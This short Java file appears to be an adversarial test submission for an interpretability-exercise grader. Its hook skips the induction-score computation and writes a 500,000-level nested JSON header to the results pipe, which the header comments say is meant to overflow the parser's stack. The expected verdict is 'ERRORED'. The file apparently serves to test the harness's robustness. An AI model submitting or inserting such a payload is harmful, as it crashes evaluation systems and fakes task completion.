// wants: to overflow the stack of whoever parses it
// verdict: ERRORED
// says: the channel that its results travel on
package student;

import ai.djl.ndarray.NDArray;
import hookworks.exercises.Hooks;
import hookworks.lens.hooks.HookPoint;

public class MyHooks implements Hooks {
    @Override
    public NDArray inductionScoreHook(NDArray pattern, HookPoint hook, NDArray store) {
        Pipe.header("{\"frame\": ".repeat(500_000) + "1" + "}".repeat(500_000));
        return store;
    }
}
